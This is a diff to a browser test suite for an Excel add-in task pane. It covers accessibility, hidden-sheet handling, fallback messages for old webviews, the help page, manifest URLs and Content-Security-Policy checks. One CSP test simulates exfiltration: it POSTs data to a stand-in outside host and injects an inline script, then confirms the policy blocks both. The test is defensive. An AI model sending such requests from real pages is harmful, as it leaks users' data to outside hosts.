@@ -10,13 +10,16 @@ import { SEVERITY_FILL } from '../../src/core/plan';
 import type { CheckResult, Severity, WorkbookModel } from '../../src/core';
 import {
   OUT,
+  PUBLIC_URL,
   RULES_FILE,
+  SITE,
   ROOT,
   SHOTS,
   WORKBOOK_NAME,
   Samples,
   buildPane,
   countsOf,
+  overrides,
   engineCheck,
   expectedForWorkbook,
   flagsByCell,
@@ -146,6 +149,12 @@ beforeAll(async () => {
     args: ['--no-sandbox', '--disable-gpu', '--disable-quic', '--no-first-run', '--disable-background-networking', '--disable-component-update', '--disable-sync'],
   });
   context = await browser.newContext({ viewport: { width: WIDTH, height: HEIGHT }, locale: 'vi-VN' });
+  // Every page keeps the Content-Security-Policy violations the browser reports to it.
+  await context.addInitScript(() => {
+    const w = window as unknown as { __csp: string[] };
+    w.__csp = [];
+    document.addEventListener('securitypolicyviolation', (e) => w.__csp.push(`${e.violatedDirective} ${e.blockedURI} (${e.sourceFile}:${e.lineNumber})`));
+  });
   page = await openPane();
 }, 300_000);
 
@@ -284,6 +293,21 @@ describe('task pane in Chromium', () => {
     expect(await fake<string>('active')).toBe(target.sheet);
   });
 
+  test('a finding on a sheet the user hid: a warning that names it, and "Hiện trang" shows it and goes to the cell', async () => {
+    const target = byWorkbook.findings.find((f) => f.file === WORKBOOK_NAME && f.sheet && f.cell && f.unit !== '')!;
+    await fake('setVisibility', target.sheet, 'Hidden');
+    await operation(() => page.getByRole('button', { name: `Đến ô ${target.sheet}!${target.cell}`, exact: true }).first().click());
+    await expectAttr(byTestId('notice'), 'data-intent', 'warning');
+    await expectContains(byTestId('notice'), `trang "${target.sheet}"`);
+    expect(await fake<string>('visibility', target.sheet)).toBe('Hidden');
+    await screenshot('trang-an');
+    await operation(() => byTestId('show-sheet').click());
+    await expectAttr(byTestId('notice'), 'data-intent', 'success');
+    expect(await fake<string>('visibility', target.sheet)).toBe('Visible');
+    expect(await fake<{ sheet: string; address: string }>('selection')).toEqual({ sheet: target.sheet, address: target.cell });
+    expect(await fake<string>('active')).toBe(target.sheet);
+  });
+
   test('a second click on "Kiểm tra" during a run starts no second run', async () => {
     const check = byTestId('check');
     let before = await fake<number>('runs');
@@ -387,7 +411,7 @@ describe('task pane in Chromium', () => {
   test('works with the keyboard alone: Tab reaches every button in order, Enter and Space check', async () => {
     // Start from the top of the pane, as a keyboard user arriving in it does.
     await page.evaluate(() => {
-      const h1 = document.querySelector('h1') as HTMLElement;
+      const h1 = document.querySelector('main h1') as HTMLElement;
       h1.tabIndex = -1;
       h1.focus();
       h1.removeAttribute('tabindex');
@@ -406,6 +430,7 @@ describe('task pane in Chromium', () => {
     console.log(`Thứ tự phím Tab: ${seen.join(' → ')}`);
     // Every control once, in reading order; each radio group is one stop (arrows move inside it).
     expect(seen).toEqual([
+      'help-toggle',
       'Trang "Chỉ tiêu" của sổ tính này',
       'insert-sample',
       'use-workbook',
@@ -433,7 +458,9 @@ describe('task pane in Chromium', () => {
   test('axe finds no serious or critical accessibility violation', async () => {
     const axeSource = await fs.readFile(require.resolve('axe-core/axe.min.js'), 'utf8');
     const check = async () => {
-      await page.addScriptTag({ content: axeSource });
+      // Evaluated through the browser's debugging protocol: a <script> tag of the test's own
+      // would be refused by the page's Content-Security-Policy, and reported as a violation.
+      await page.evaluate(axeSource);
       return page.evaluate(async () => {
         const axe = (window as unknown as { axe: { run(ctx: Document, o: object): Promise<{ violations: Array<{ id: string; impact: string; help: string; nodes: Array<{ target: unknown }> }> }> } }).axe;
         const r = await axe.run(document, { resultTypes: ['violations'] });
@@ -451,12 +478,142 @@ describe('task pane in Chromium', () => {
     await screenshot('chon-trang');
   });
 
+  test('the guard of old webviews stayed quiet while the pane ran', async () => {
+    expect(await page.evaluate(() => (window as unknown as { chitieuGuard: { shown(): boolean } }).chitieuGuard.shown())).toBe(false);
+    expect(await page.locator('#guard').isVisible()).toBe(false);
+  });
+
+  test.each([
+    ['a bundle that does not parse', 'this is not JavaScript (((', ''],
+    ['a bundle that throws before the pane is on screen', 'throw new Error("lỗi khởi động")', ''],
+    ['a bundle that does not parse, Office in English', 'this is not JavaScript (((', '?_host_Info=Excel$Win32$16.01$en-US$$$$0'],
+  ])('%s: the page says what to do instead', async (_what, bundle, search) => {
+    overrides.set('/taskpane.js', bundle);
+    const p = await context.newPage();
+    try {
+      await p.goto(server.url + search);
+      await p.waitForFunction(() => document.readyState === 'complete');
+      const english = search.includes('en-US');
+      await expectVisible(p.locator(english ? '#guard-en' : '#guard-vi'));
+      expect(await p.locator(english ? '#guard-vi' : '#guard-en').isVisible()).toBe(false);
+      // Chromium could run the pane: the message says its files failed, and lists the other ways.
+      const box = p.locator(english ? '#guard-en' : '#guard-vi');
+      expect(await box.locator('.guard-broken').isVisible()).toBe(true);
+      expect(await box.locator('li').count()).toBe(4);
+      expect(await box.textContent()).toContain('chitieu check');
+      expect(await p.locator('#root').innerHTML()).toBe('');
+      await p.screenshot({ path: path.join(SHOTS, `guard-${english ? 'en' : 'vi'}-${bundle.startsWith('throw') ? 'throws' : 'parse'}.png`) });
+    } finally {
+      overrides.delete('/taskpane.js');
+      await p.close();
+    }
+  });
+
+  test('an engine older than ES2019 (Internet Explorer 11, the first Edge) is told the ways that work', async () => {
+    overrides.set('/taskpane.js', 'var x = a?.b;');
+    const p = await context.newPage();
+    try {
+      // What such an engine lacks, taken away before any script of the page runs.
+      await p.addInitScript(() => delete (Object as { fromEntries?: unknown }).fromEntries);
+      await p.goto(server.url);
+      await expectVisible(p.locator('#guard-vi .guard-old').first());
+      expect(await p.locator('#guard-vi .guard-broken').isVisible()).toBe(false);
+      expect(await p.locator('#guard-vi').textContent()).toContain('WebView2');
+      await p.screenshot({ path: path.join(SHOTS, 'guard-webview-cu.png') });
+    } finally {
+      overrides.delete('/taskpane.js');
+      await p.close();
+    }
+  });
+
   test('in English when Office says so', async () => {
     const en = await openPane('en-US');
     await expectText(en.getByRole('heading', { level: 1 }), 'Target check');
     await expectText(en.getByTestId('check'), 'Check');
     expect(await en.evaluate(() => document.documentElement.lang)).toBe('en');
     await en.close();
+  });
+
+  test('help inside the pane: what it does, the rules workbook with the sample button, each finding kind, unreadable files, Office versions', async () => {
+    await byTestId('help-toggle').click();
+    const help = byTestId('help');
+    await expectVisible(help);
+    expect(await byTestId('help-toggle').getAttribute('aria-expanded')).toBe('true');
+    for (const h of ['Công cụ làm gì', 'Bảng chỉ tiêu', 'Các loại phát hiện', 'Khi tệp không đọc được', 'Phiên bản Office'])
+      await expectVisible(help.getByRole('heading', { name: h, level: 3 }));
+    // Every kind of finding the engine gives, each with its meaning.
+    const kinds = await help.locator('li[data-kind]').evaluateAll((els) => els.map((e) => e.getAttribute('data-kind') ?? ''));
+    for (const f of [...byFiles.findings, ...byWorkbook.findings]) expect([f.kind, kinds.includes(f.kind)]).toEqual([f.kind, true]);
+    expect(await byTestId('help-versions').locator('tbody tr').count()).toBe(6);
+    await expectVisible(byTestId('help-insert-sample'));
+    await screenshot('huong-dan');
+    const axeSource = await fs.readFile(require.resolve('axe-core/axe.min.js'), 'utf8');
+    await page.evaluate(axeSource);
+    const violations = await page.evaluate(async () => {
+      const axe = (window as unknown as { axe: { run(ctx: Element, o: object): Promise<{ violations: Array<{ id: string; impact: string }> }> } }).axe;
+      return (await axe.run(document.querySelector('#help-panel')!, { resultTypes: ['violations'] })).violations.map((v) => `${v.impact} ${v.id}`);
+    });
+    expect(violations).toEqual([]);
+    await byTestId('help-toggle').click();
+    await expectCount(byTestId('help'), 0);
+  });
+
+  test('help.html, the support page of the manifest, in Vietnamese and in English', async () => {
+    const p = await context.newPage();
+    try {
+      await p.goto(server.url.replace('taskpane.html', 'help.html'));
+      await expectText(p.getByRole('heading', { level: 1 }), 'Kiểm tra chỉ tiêu – Hướng dẫn');
+      await expectVisible(p.getByRole('heading', { name: 'Phiên bản Office', level: 2 }));
+      // Outside Excel there is no workbook: no insert button.
+      expect(await p.getByTestId('help-insert-sample').count()).toBe(0);
+      await p.getByTestId('help-language').click();
+      await expectText(p.getByRole('heading', { level: 1 }), 'Target check – Help');
+      expect(await p.evaluate(() => document.documentElement.lang)).toBe('en');
+      expect(await p.evaluate(() => (window as unknown as { __csp: string[] }).__csp)).toEqual([]);
+    } finally {
+      await p.close();
+    }
+  });
+
+  test("the manifest the build wrote points at the office's address, at files the build wrote", async () => {
+    const xml = await fs.readFile(path.join(SITE, 'manifest.xml'), 'utf8');
+    const urls = [...xml.matchAll(/DefaultValue="(https:[^"]+)"/g)].map((m) => m[1]);
+    expect(urls.length).toBeGreaterThanOrEqual(9);
+    for (const u of urls) {
+      expect(u.startsWith(PUBLIC_URL)).toBe(true);
+      const file = path.join(SITE, decodeURIComponent(u.slice(PUBLIC_URL.length)));
+      expect([u, await fs.stat(file).then((s) => s.isFile(), () => false)]).toEqual([u, true]);
+    }
+    expect(xml).toContain('<SourceLocation DefaultValue="https://chitieu.example.vn/kiem-tra/taskpane.html"/>');
+    expect(xml).toContain('<SupportUrl DefaultValue="https://chitieu.example.vn/kiem-tra/help.html"/>');
+    expect([...xml.matchAll(/<AppDomain>([^<]*)<\/AppDomain>/g)].map((m) => m[1])).toEqual(['https://chitieu.example.vn']);
+    expect(xml).not.toContain('localhost');
+  });
+
+  test("the production page's Content-Security-Policy was in force, and no step broke it", async () => {
+    const csp = await page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute('content');
+    expect(csp).toContain("script-src 'self' https://appsforoffice.microsoft.com");
+    expect(csp).toContain("connect-src 'self'");
+    expect(csp).not.toMatch(/unsafe-eval/);
+    // Every step above ran on `page`: check, flag, clear, rollup, filters, hidden sheet, help.
+    expect(await page.evaluate(() => (window as unknown as { __csp: string[] }).__csp)).toEqual([]);
+    // The policy bites: a request to another origin and an inline script are refused and reported.
+    const p = await context.newPage();
+    try {
+      await p.goto(server.url);
+      await p.waitForFunction(() => Number(document.querySelector('main')?.getAttribute('data-finished')) >= 1);
+      await p.evaluate(async () => {
+        await fetch('https://example.invalid/upload', { method: 'POST', body: 'số liệu' }).catch(() => undefined);
+        const s = document.createElement('script');
+        s.textContent = 'window.__inline = true;';
+        document.body.appendChild(s);
+      });
+      const seen = await soon(() => p.evaluate(() => (window as unknown as { __csp: string[] }).__csp), (v) => v.length >= 2);
+      expect(seen.map((v) => v.split(' ')[0]).sort()).toEqual(['connect-src', 'script-src-elem']);
+      expect(await p.evaluate(() => (window as unknown as { __inline?: boolean }).__inline)).toBeUndefined();
+    } finally {
+      await p.close();
+    }
   });
 
   test('makes no request outside localhost', async () => {
